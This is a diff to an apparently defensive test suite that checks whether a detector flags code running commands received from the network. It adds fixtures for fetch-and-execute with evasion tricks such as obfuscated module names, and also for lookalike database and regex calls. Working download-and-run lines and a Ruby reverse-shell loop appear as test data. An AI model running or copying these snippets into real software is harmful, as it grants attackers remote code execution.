@@ -32,6 +32,10 @@ describe('code that runs what it is sent', () => {
     node("const { execSync } = require('child_process');\nfetch('https://example.test/i.sh').then((r) => r.text()).then((t) => execSync(t));"),
     node("const cp = require('child_process');\n(async () => { const res = await fetch('https://example.test/job');\nconst job = await res.json();\ncp.spawnSync('sh', ['-c', job.cmd]); })();"),
     node("const { exec } = require('child_process');\nrequire('https').get('https://example.test/i.sh', (res) => { let body = ''; res.on('data', (data) => { body += data; }); res.on('end', () => exec(body)); });"),
+    node("const shell = require('shelljs');\n(async () => { shell.exec(await (await fetch('https://example.test/i.sh')).text()); })();"),
+    node("const t = require('node:child_process'), u = t;\n(async () => { const a = await (await fetch('https://example.test/i.sh')).text(); u.exec(a); })();"),
+    node("(async () => { const a = await (await fetch('https://example.test/i.sh')).text(); require('child_process').exec(a); })();"),
+    node("const m = ['child', 'process'].join('_');\n(async () => { const a = await (await fetch('https://example.test/i.sh')).text(); require(m).exec(a); })();"),
     node("const WebSocket = require('ws');\nconst { exec } = require('child_process');\nconst ws = new WebSocket('wss://example.test');\nws.on('message', (message) => { exec(`${message}`); });"),
     fed('ruby', "require 'socket'\ns = TCPSocket.new('203.0.113.44', 5389)\nwhile line = s.gets\n  s.puts `#{line}`\nend"),
     fed('ruby', "require 'open-uri'\nsystem(URI.open('https://example.test/i.sh').read)"),
@@ -45,6 +49,11 @@ describe('code that runs what it is sent', () => {
   });
 
   it.each([
+    // Databases, regular expressions and queues have methods of the same names.
+    node("const db = require('better-sqlite3')(':memory:');\n(async () => { const rows = await (await fetch('https://api.example.test/rows')).json();\nfor (const r of rows) db.prepare('insert into t values (?)').run(r.a); })();"),
+    node("import { matcher } from './matcher.mjs';\nconst rows = await (await fetch('https://api.example.test/rows')).json();\nconst m = matcher.exec(rows.title);"),
+    node("import Database from 'better-sqlite3';\nconst db = new Database('app.db');\nconst res = await fetch('https://api.example.test/schema.sql');\ndb.exec(await res.text());"),
+    node("import axios from 'axios';\nimport { queue } from './queue.mjs';\nconst { data } = await axios.get('https://api.example.test/job');\nawait queue.run(data.job);"),
     // What is sent is one argument of a program that the code names.
     python("import requests, subprocess\nr = requests.get('https://api.github.com/repos/a/b/releases/latest').json()\nsubprocess.run(['git', 'checkout', r['tag_name']], check=True)"),
     python("import json, os, urllib.request\nv = json.load(urllib.request.urlopen('https://pypi.org/pypi/ruff/json'))['info']['version']\nos.system(f'pip install ruff=={v}')"),
